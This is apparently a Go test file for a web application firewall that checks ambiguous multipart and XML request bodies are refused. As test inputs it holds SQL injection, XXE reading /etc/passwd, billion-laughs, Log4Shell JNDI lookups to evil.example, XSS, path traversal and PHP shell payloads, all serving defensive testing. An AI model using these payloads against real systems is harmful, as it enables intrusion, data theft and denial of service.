package waf

import (
	"bytes"
	"fmt"
	"mime/multipart"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"portcullis/services/problem"
)

// hidden is an attack that the rules deny wherever they see it.
const hidden = `1' OR '1'='1' UNION SELECT name, password FROM users-- -`

// TestNoPartPassesTheRulesUnseen: each attack is a form of which some backend
// reads a part that the rules would not, or under another name.
func TestNoPartPassesTheRulesUnseen(t *testing.T) {
	t.Parallel()
	const (
		form = "multipart/form-data; boundary=b"
		note = "Content-Disposition: form-data; name=\"note\""
	)
	file := note + "; filename=\"a.txt\"" // whose contents nobody looks at
	one := func(header, content string) string { return crlf("--b\n" + header + "\n\n" + content + "\n--b--\n") }
	for name, tc := range map[string]struct{ media, body, says string }{
		// The boundary.
		"two boundaries":                             {"multipart/form-data; boundary=b; boundary=c", one(note, "x"), "cannot be read"},
		"two boundaries that differ in case":         {"multipart/form-data; boundary=b; Boundary=c", one(note, "x"), "cannot be read"},
		"a boundary in pieces (RFC 2231)":            {"multipart/form-data; boundary*0=b; boundary*1=c", one(note, "x"), "neither boundary nor charset"},
		"a boundary in extended notation":            {"multipart/form-data; boundary=c; boundary*=utf-8''b", one(note, "x"), "neither boundary nor charset"},
		"a boundary with an escape":                  {`multipart/form-data; boundary="b\c"`, one(note, "x"), "boundary"},
		"a boundary with a boundary in its quotes":   {`multipart/form-data; boundary="b; boundary=c"`, one(note, "x"), "1 to 70 letters, digits and"},
		"a boundary after a parameter that looks so": {"multipart/form-data; x=boundary=c; boundary=b", one(note, "x"), "cannot be read"},
		"a boundary that a comma cuts":               {`multipart/form-data; boundary="b,c"`, one(note, "x"), "boundary"},
		"no boundary":                                {"multipart/form-data", one(note, "x"), "no boundary"},
		"an empty boundary":                          {`multipart/form-data; boundary=""`, one(note, "x"), "boundary"},
		"a boundary of 71 bytes":                     {"multipart/form-data; boundary=" + strings.Repeat("b", 71), one(note, "x"), "1 to 70"},
		"a boundary of hyphens alone":                {"multipart/form-data; boundary=---", one(note, "x"), "letter or digit"},
		"a boundary that looks like the last":        {"multipart/form-data; boundary=b--", one(note, "x"), "hyphen at the end"},
		"a charset of the whole form":                {"multipart/form-data; boundary=b; charset=utf-16", one(note, "x"), "charset"},
		"another multipart type":                     {"multipart/mixed; boundary=b", one(note, "x"), "accepted here"},
		// The framing.
		"a part before the first boundary":           {form, crlf("--c\n"+note+"\n\n"+hidden+"\n") + one(note, "x"), "does not begin"},
		"a line before the first boundary":           {form, "\r\n" + one(note, "x"), "does not begin"},
		"a part after the last boundary":             {form, one(note, "x") + one(note, hidden), "after its last"},
		"no last boundary":                           {form, crlf("--b\n" + file + "\n\nx\n"), "before its last"},
		"a form that breaks off in a boundary":       {form, crlf("--b\n" + file + "\n\nx\n--"), "before its last"},
		"line feeds alone":                           {form, "--b\n" + note + "\n\n" + hidden + "\n--b--\n", "CRLF"},
		"a boundary after a bare line feed, as PHP":  {form, "--b\r\n" + file + "\r\n\r\nx\n--b\r\n" + note + "\r\n\r\n" + hidden + "\r\n--b--\r\n", "within a line"},
		"a boundary after a bare carriage return":    {form, "--b\r\n" + file + "\r\n\r\nx\r--b\r\n" + note + "\r\n\r\n" + hidden + "\r\n--b--\r\n", "within a line"},
		"a boundary with blanks behind it":           {form, "--b \r\n" + note + "\r\n\r\nx\r\n--b--\r\n", "CRLF"},
		"a boundary that goes on in another":         {form, one(file, "x\n--bc\n"+note+"\n\n"+hidden), "CRLF"},
		"a boundary in a header":                     {form, one(file+"\nX: --b", "x"), "header"},
		"a header that does not end":                 {form, crlf("--b\n" + note + "\n--b--\n"), "empty line"},
		"a form in a part":                           {form, one(note+"\nContent-Type: multipart/mixed; boundary=c", "x"), "multipart itself"},
		"a part that is encoded":                     {form, one(note+"\nContent-Transfer-Encoding: base64", "MScgT1IgMT0x"), "encoded"},
		"a part that is compressed":                  {form, one(note+"\nContent-Encoding: gzip", "x"), "compressed"},
		"a part in UTF-7":                            {form, one(note+"\nContent-Type: text/plain; charset=utf-7", "+ACc- OR 1"), "charset"},
		"a part in UTF-16 by extended notation":      {form, one(note+"\nContent-Type: text/plain; charset*=''utf-16", "x"), "cannot be read"},
		"a part with more header fields than bounds": {form, one(note+strings.Repeat("\nX-%d: 1", 9), "x"), "header"},
		"a part with a long header field":            {form, one(note+"\nX: "+strings.Repeat("x", 2000), "x"), "1 KiB"},
		// The header of a part.
		"a header field on two lines":               {form, one(note+"\n ; filename=\"a.txt\"", "x"), "several lines"},
		"a blank before the colon":                  {form, one("Content-Disposition : form-data; name=\"note\"", "x"), "malformed"},
		"a header field that hides in NUL":          {form, one("Content-Disposition\x00: form-data; name=\"note\"", "x"), "malformed"},
		"a name twice":                              {form, one(`Content-Disposition: form-data; name="a"; name="b"`, "x"), "one name"},
		"names that differ in case":                 {form, one(`Content-Disposition: form-data; name="a"; Name="b"`, "x"), "one name"},
		"a file name twice":                         {form, one(`Content-Disposition: form-data; name="a"; filename="a"; filename="b.php"`, "x"), "one name"},
		"two dispositions":                          {form, one(note+"\ncontent-disposition: form-data; name=\"b\"", "x"), "twice"},
		"a file name and no name":                   {form, one(`Content-Disposition: form-data; filename="a.php"`, "x"), "without a name"},
		"no disposition":                            {form, one("Content-Type: text/plain", "x"), "without a name"},
		"an attachment":                             {form, one(`Content-Disposition: attachment; name="a"`, "x"), "not form-data"},
		"a file name in extended notation":          {form, one(`Content-Disposition: form-data; name="a"; filename="a.txt"; filename*=utf-8''a.php`, "x"), "one name"},
		"a file name in pieces":                     {form, one(`Content-Disposition: form-data; name="a"; filename*0="a."; filename*1="php"`, "x"), "one name"},
		"a name in extended notation":               {form, one(`Content-Disposition: form-data; name*=utf-8''a`, "x"), "one name"},
		"an escaped quote":                          {form, one(`Content-Disposition: form-data; name="a\"; filename=\"b"`, "x"), "without escapes"},
		"a quote that does not end":                 {form, one(`Content-Disposition: form-data; name="a`, "x"), "without escapes"},
		"a quote of another kind":                   {form, one(`Content-Disposition: form-data; name='a"; filename="b'`, "x"), "in quotes"},
		"a name with percent encoding":              {form, one(`Content-Disposition: form-data; name="n%6fte"`, "x"), "percent"},
		"a name that is an encoded word (RFC 2047)": {form, one(`Content-Disposition: form-data; name="=?utf-8?Q?note?="`, "x"), "plain UTF-8"},
		"a name that is no UTF-8":                   {form, one("Content-Disposition: form-data; name=\"n\xefte\"", "x"), "plain UTF-8"},
		"a name of 129 bytes":                       {form, one(`Content-Disposition: form-data; name="`+strings.Repeat("n", 129)+`"`, "x"), "128 bytes"},
		"a file name of 256 bytes":                  {form, one(note+`; filename="`+strings.Repeat("n", 256)+`"`, "x"), "255"},
		"more parts than arguments":                 {form, strings.Repeat(crlf("--b\n"+note+"\n\nx\n"), MaxArgs+1) + "--b--\r\n", "arguments"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			unread(t, tc.media, tc.body, tc.says)
		})
	}
}

// unread wants a body refused as one that can be read in two ways.
func unread(t *testing.T, media, body, says string) {
	t.Helper()
	code, detail, _ := decided(t, media, body)
	if code != problem.BadRequest && code != problem.UnsupportedMedia || !strings.Contains(detail, says) {
		t.Errorf("%q: %q, want a sentence with %q", code, detail, says)
	}
}

// TestNoDocumentPassesTheRulesUnseen: the same of XML.
func TestNoDocumentPassesTheRulesUnseen(t *testing.T) {
	t.Parallel()
	const media = "application/xml"
	for name, tc := range map[string]struct{ media, body, says string }{
		"an external entity":                         {media, `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`, "document type"},
		"a billion laughs":                           {media, `<!DOCTYPE a [<!ENTITY x "ha"><!ENTITY y "&x;&x;&x;&x;&x;&x;&x;&x;">]><a>&y;</a>`, "document type"},
		"a document type elsewhere":                  {media, `<!DOCTYPE a SYSTEM "https://evil.example/a.dtd"><a/>`, "document type"},
		"a document type in small letters":           {media, `<!doctype a><a/>`, "document type"},
		"an entity that is not declared":             {media, `<a>&x;</a>`, "reference"},
		"an entity of HTML":                          {media, `<a>&nbsp;</a>`, "reference"},
		"a reference to no character":                {media, `<a>&#0;</a>`, "reference"},
		"a reference to half a character":            {media, `<a>&#xd800;</a>`, "reference"},
		"a style sheet":                              {media, `<?xml version="1.0"?><?xml-stylesheet href="https://evil.example/a.xsl"?><a/>`, "processing instruction"},
		"a processing instruction":                   {media, `<a><?php system('id') ?></a>`, "processing instruction"},
		"an encoding other than UTF-8":               {media, `<?xml version="1.0" encoding="utf-7"?><a>+ADw-script+AD4-</a>`, "UTF-8"},
		"an encoding that a sloppy reader overlooks": {media, `<?xml version="1.0" encoding = "utf-16"?><a/>`, "UTF-8"},
		"a charset in the Content-Type":              {"text/xml; charset=utf-7", `<a>+ADw-script+AD4-</a>`, "UTF-8"},
		"UTF-16":                                     {media, "\xff\xfe<\x00a\x00/\x00>\x00", "UTF-8"},
		"a byte order mark":                          {media, "\ufeff<a/>", "byte order mark"},
		"version 1.1, with other characters":         {media, `<?xml version="1.1"?><a/>`, "1.0"},
		"a control character":                        {media, "<a>\x01</a>", "forbids"},
		"a word that a comment cuts":                 {media, `<a>1' UN<!-- -->ION SEL<!-- -->ECT</a>`, "cuts"},
		"a word that a CDATA section cuts":           {media, `<a>1' UN<![CDATA[ION SELECT]]></a>`, "cuts"},
		"a comment that ends elsewhere in HTML":      {media, `<a><!--><script>alert(1)</script>--></a>`, "comment"},
		"a comment with two hyphens":                 {media, `<a><!-- -- --></a>`, "comment"},
		"another document in it":                     {media, `<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="x"/></a>`, "XInclude"},
		"another document by the draft's name":       {media, `<a xmlns:xi="http://www.w3.org/2003/XInclude"><xi:include href="x"/></a>`, "XInclude"},
		"a word that an element cuts":                {media, `<a>1' UN<b/>ION SEL<b/>ECT</a>`, "cuts"},
		"a word that an element with text cuts":      {media, `<a>1' UN<b>x</b>ION SELECT</a>`, "cuts"},
		"two roots":                                  {media, `<a/><b/>`, "root"},
		"text after the root":                        {media, `<a/>x`, "outside"},
		"no root":                                    {media, ` `, "root"},
		"an element that is not closed":              {media, `<a><b></a>`, "closes"},
		"a document that breaks off":                 {media, `<a><b>`, "root"},
		"an attribute without quotes":                {media, `<a b=c/>`, "malformed"},
		"an attribute with a tag in it":              {media, `<a b="<c>"/>`, "malformed"},
		"a name outside ASCII":                       {media, `<größe/>`, "outside ASCII"},
		"a name with two colons":                     {media, `<a:b:c/>`, "malformed"},
		"]]> in a text":                              {media, `<a>]]></a>`, "]]>"},
		"21 levels":                                  {media, strings.Repeat("<a>", 21) + strings.Repeat("</a>", 21), "deeply"},
		"many elements":                              {media, "<a>" + strings.Repeat("<b/>", 2*MaxArgs) + "</a>", "too many"},
		"more texts than arguments":                  {media, "<a>" + strings.Repeat("<b>1</b>", MaxArgs+1) + "</a>", "arguments"},
		"more attributes than arguments":             {media, "<a " + strings.Repeat(`b="1" `, MaxArgs+1) + "/>", "arguments"},
		"what the engine takes for HTML":             {media, "<call><param>1</param></call>", "param"},
		"XML under a type that no rule reads":        {"application/atom+xml", "<a/>", "accepted here"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			unread(t, tc.media, tc.body, tc.says)
		})
	}
}

// TestAttacksInEveryFormatAreDenied by the rules, wherever they stand.
func TestAttacksInEveryFormatAreDenied(t *testing.T) {
	t.Parallel()
	const form = "multipart/form-data; boundary=b"
	part := func(header, content string) string {
		return crlf("--b\nContent-Disposition: form-data; " + header + "\n\n" + content + "\n--b--\n")
	}
	for name, tc := range map[string]struct{ media, body string }{
		"in a part":                         {form, part(`name="q"`, hidden)},
		"in a second part of the name":      {form, strings.TrimSuffix(part(`name="q"`, "1"), "--b--\r\n") + part(`name="q"`, hidden)},
		"in one whose name differs in case": {form, strings.TrimSuffix(part(`name="q"`, hidden), "--b--\r\n") + part(`name="Q"`, "1")},
		"in a file's name":                  {form, part(`name="q"; filename="../../../../etc/passwd"`, "x")},
		"a script as a file":                {form, part(`name="q"; filename="shell.php"`, "x")},
		"in the name of a part":             {form, part(`name="<script>alert(1)</script>"`, "x")},
		"in a part with an empty file":      {form, part(`name="q"; filename=""`, hidden)},
		"in a text":                         {"application/xml", "<a><b>" + hidden + "</b></a>"},
		"in an attribute":                   {"text/xml", `<a b="${jndi:ldap://evil.example/a}"/>`},
		"in references":                     {"text/xml", "<a>&#60;script&#x3e;alert(1)&lt;/script&gt;</a>"},
		"in a CDATA section":                {"application/soap+xml", "<a><![CDATA[<script>alert(1)</script>]]></a>"},
		"in a name space":                   {"text/xml", `<a xmlns="${jndi:ldap://evil.example/a}"/>`},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			if code, detail, _ := decided(t, tc.media, tc.body); code != problem.WAFDenied {
				t.Errorf("%q: %q", code, detail)
			}
		})
	}
}

// TestOfAttributesTheRuleSetReadsLittle: only its rules about Java look at them.
// SECURITY.md and the reference say so; when this fails, they can say better.
func TestOfAttributesTheRuleSetReadsLittle(t *testing.T) {
	t.Parallel()
	if code, detail, _ := decided(t, "text/xml", `<a b="`+hidden+`"/>`); code != "" {
		t.Errorf("%q: %q", code, detail)
	}
}

// TestWhatAProfileDoesNotTakeIs415 and what it takes is said.
func TestWhatAProfileDoesNotTakeIs415(t *testing.T) {
	t.Parallel()
	for formats, want := range map[Formats]string{
		JSON | Form:       "Only JSON and form bodies are accepted here.",
		Multipart:         "Only multipart form bodies are accepted here.",
		JSON | Multipart:  "Only JSON and multipart form bodies are accepted here.",
		JSON | Form | XML: "Only JSON, form and XML bodies are accepted here.",
	} {
		p, err := Profile{Name: "few", Formats: formats}.complete()
		if err != nil {
			t.Fatal(err)
		}
		for media, of := range map[string]Formats{jsonMedia: JSON, formMedia: Form, multipartMedia: Multipart, "text/xml": XML, "application/octet-stream": 0, "image/png": 0} {
			_, err := p.bodyFormat(map[string][]string{"Content-Type": {media}})
			if of&formats != 0 {
				if err != nil {
					t.Errorf("%s: %v", media, err)
				}
			} else if p, ok := err.(*problem.Problem); !ok || p.Code != problem.UnsupportedMedia || p.Detail != want {
				t.Errorf("%s: %v, want %q", media, err, want)
			}
		}
	}
	if _, err := FormatsOf([]string{"json", "yaml"}); err == nil || !strings.Contains(err.Error(), `"yaml"`) {
		t.Errorf("an unknown format: %v", err)
	}
	if _, err := (Profile{Name: "x", Formats: 16}).complete(); err == nil {
		t.Error("a format that is none is taken")
	}
}

// TestNoFileReachesTheDisk: the engine's own reader writes each to os.TempDir,
// until the transaction is closed, and refuses the form when it cannot. Not
// parallel: it sets the environment.
func TestNoFileReachesTheDisk(t *testing.T) {
	i, err := New(Config{Profile: Profile{Name: "uploads", Formats: Multipart, Proof: ProofOff}, Log: discarded()})
	if err != nil {
		t.Fatal(err)
	}
	t.Setenv("TMPDIR", filepath.Join(t.TempDir(), "not there"))
	if file, err := os.CreateTemp("", "x"); err == nil {
		t.Fatalf("%s can be written: this test shows nothing", file.Name())
	}
	tx := request("POST", "/v1/files", "multipart/form-data; boundary=AaB03x", crlf(ordinaryForm))
	if d := through(i, NewGate(0), tx); d.Problem != nil || !tx.WAF.Ran || tx.WAF.Proof.Clean {
		t.Errorf("%v %+v", d.Problem, tx.WAF)
	}
}

// TestClientsOfTheStandardLibraryAreRead: what their writers make is taken.
func TestClientsOfTheStandardLibraryAreRead(t *testing.T) {
	t.Parallel()
	var body bytes.Buffer
	w := multipart.NewWriter(&body)
	for n := range 3 {
		if err := w.WriteField(fmt.Sprint("field", n), "a value\nof two lines"); err != nil {
			t.Fatal(err)
		}
	}
	file, err := w.CreateFormFile("photo", "kesäloma 2026.jpg")
	if err != nil {
		t.Fatal(err)
	}
	fmt.Fprint(file, "\x89PNG\r\n\x1a\n--")
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if code, detail, tx := decided(t, w.FormDataContentType(), body.String()); code != "" || !tx.WAF.Proof.Clean {
		t.Errorf("%s %q %+v", code, detail, tx.WAF.Proof)
	}
}
